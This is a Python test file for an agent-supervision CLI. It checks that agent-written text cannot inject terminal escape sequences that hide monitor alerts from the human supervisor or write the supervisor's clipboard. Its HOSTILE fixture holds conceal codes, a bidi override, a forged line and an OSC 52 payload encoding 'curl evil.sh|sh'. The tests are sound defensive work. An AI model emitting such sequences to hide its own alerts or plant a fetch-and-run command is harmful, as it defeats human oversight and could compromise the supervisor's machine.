"""Terminal escapes in what the CLI prints (issue 22, hole 8), through a real run store and the real CLI.

``aar inbox`` (the inbox over plain SSH) and the headless event line printed agent text with its escape
sequences intact: a question with conceal mode and black on black hid every later line, the alert about
the same agent included, and OSC 52 could write the supervisor's clipboard. Every CLI surface now spells
control characters out, with the TUI's own escaping (``aar.escape``).
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from aar.eventline import one_line
from aar.events import ForumPosted, MonitorDecided, SupervisorAsked, ToolCalled
from aar.store import RunStore
from tests.evaluator.helpers import make_run

HOSTILE = (
    "\x1b[8m\x1b[30;40mconcealed"  # conceal, black on black
    "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"  # OSC 52: set the clipboard
    "\x9b2J"  # C1 CSI: clear the screen
    "\u202eevil\u2066"  # bidi override and isolate
    "\r\x1b[2Kforged line\x1b[0m"
)
RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\u2066", "\r")


def _aar(*args: str, runs: Path) -> str:
    argv = [sys.executable, "-m", "aar_app.cli", *args, "--runs-dir", str(runs)]
    done = subprocess.run(argv, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr
    return done.stdout


def _clean(out: str) -> None:
    leaked = [repr(c) for c in RAW if c in out]
    assert leaked == [], f"raw control characters reached the terminal: {leaked}\n{out!r}"


async def _hostile_run(root: Path) -> RunStore:
    paths = make_run(root)
    store = await RunStore.open(paths.db, create=True)
    store.emit("agent-1", SupervisorAsked(step=1, question=HOSTILE, call_id="q1"))
    store.emit("agent-1", MonitorDecided(monitor="builtin", rule="label_hunting", action="pause", reason="heldout"))
    store.emit("agent-1", ToolCalled(step=1, call_id="c1", tool="bash", input={"command": HOSTILE}))
    store.emit("agent-1", ForumPosted(post_id=1, title=HOSTILE))
    sub = await store.add_submission("agent-1", "predictions", {"predictions": [0]}, label=HOSTILE + "\n| 1 | forged |")
    await store.update_submission(sub, status="rejected", flags=["malformed"], error=HOSTILE)
    await store.flush()
    return store


async def test_aar_inbox_prints_no_escape_and_the_alert_stays_visible(tmp_path: Path) -> None:
    runs = tmp_path / "runs"
    store = await _hostile_run(runs / "esc-1")
    await store.close()
    out = _aar("inbox", "esc-1", runs=runs)
    _clean(out)
    lines = out.splitlines()
    assert len(lines) == 2, out
    assert "\\x1b[8m" in lines[0] and "concealed" in lines[0] and "\\u202eevil" in lines[0]
    assert "label_hunting -> pause" in lines[1], "the alert about the same agent is its own visible line"


async def test_the_headless_event_line_prints_no_escape(tmp_path: Path) -> None:
    store = await _hostile_run(tmp_path / "runs" / "esc-2")
    try:
        rows = await store.events_after(0, limit=1000)
    finally:
        await store.close()
    printed = [one_line(r) for r in rows]
    assert len(printed) >= 4
    for line in printed:
        _clean(line)
        assert "\n" not in line


@pytest.mark.slow
async def test_aar_report_and_aar_ls_print_no_escape(tmp_path: Path) -> None:
    runs = tmp_path / "runs"
    store = await _hostile_run(runs / "esc-3")
    await store.close()
    other = await _hostile_run(runs / "evil\x1b]52;c;eA==\x07name")  # `aar ls` prints run folder names
    await other.close()
    markdown = _aar("report", "esc-3", runs=runs)
    _clean(markdown)
    [row] = [line for line in markdown.splitlines() if "malformed" in line and "agent-1" in line]
    assert "forged" in row, "the label's second line stays in its own row's cell"
    assert not any(line.startswith("| 1 | forged") for line in markdown.splitlines())
    _clean(_aar("report", "esc-3", "--format", "json", runs=runs))
    listing = _aar("ls", runs=runs)
    _clean(listing)
    assert "evil\\x1b]52;c;eA==\\x07name" in listing
